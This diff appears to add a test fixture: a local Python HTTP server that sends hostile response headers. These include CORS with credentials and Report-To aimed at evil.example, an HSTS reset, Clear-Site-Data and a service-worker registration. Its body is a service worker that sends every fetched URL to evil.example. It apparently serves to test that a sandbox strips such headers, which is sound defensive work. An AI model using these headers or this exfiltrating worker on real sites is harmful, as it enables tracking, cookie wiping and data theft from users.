@@ -139,3 +139,50 @@ class Handler(http.server.BaseHTTPRequestHandler):
 
 http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Handler).serve_forever()
 """
+
+# Answers every request with the headers by which a page could reach past its own port: a
+# service worker's scope over the whole origin, CORS grants to another site, wiping the site's
+# cookies, ending HSTS, reports of every network error sent elsewhere, a credential prompt...
+WIDENING = r"""
+import http.server, sys
+
+HEADERS = [
+    ("Service-Worker-Allowed", "/"),
+    ("Access-Control-Allow-Origin", "https://evil.example"),
+    ("Access-Control-Allow-Credentials", "true"),
+    ("Access-Control-Allow-Private-Network", "true"),
+    ("Clear-Site-Data", '"cookies", "storage"'),
+    ("Strict-Transport-Security", "max-age=0; includeSubDomains"),
+    ("Alt-Svc", 'h2="evil.example:443"; ma=86400'),
+    ("NEL", '{"report_to": "x", "max_age": 86400, "include_subdomains": true}'),
+    ("Report-To", '{"group": "x", "max_age": 86400, "endpoints": [{"url": "https://evil.example/"}]}'),
+    ("Timing-Allow-Origin", "*"),
+    ("Cross-Origin-Resource-Policy", "cross-origin"),
+    ("WWW-Authenticate", 'Basic realm="airlock"'),
+    ("Link", '</sw.js>; rel="serviceworker"; scope="/"'),
+    ("Origin-Agent-Cluster", "?0"),
+    # Its own policy, which would keep the API's origin: ours is added beside it.
+    ("Content-Security-Policy", "sandbox allow-same-origin allow-scripts"),
+    ("X-App", "kept"),
+]
+BODY = b"self.addEventListener('fetch', e => fetch('https://evil.example/?u=' + e.request.url));"
+
+
+class Handler(http.server.BaseHTTPRequestHandler):
+    protocol_version = "HTTP/1.1"
+
+    def do_GET(self):
+        self.send_response(200)
+        self.send_header("Content-Type", "text/javascript")
+        self.send_header("Content-Length", str(len(BODY)))
+        for name, value in HEADERS:
+            self.send_header(name, value)
+        self.end_headers()
+        self.wfile.write(BODY)
+
+    def log_message(self, *args):
+        pass
+
+
+http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Handler).serve_forever()
+"""
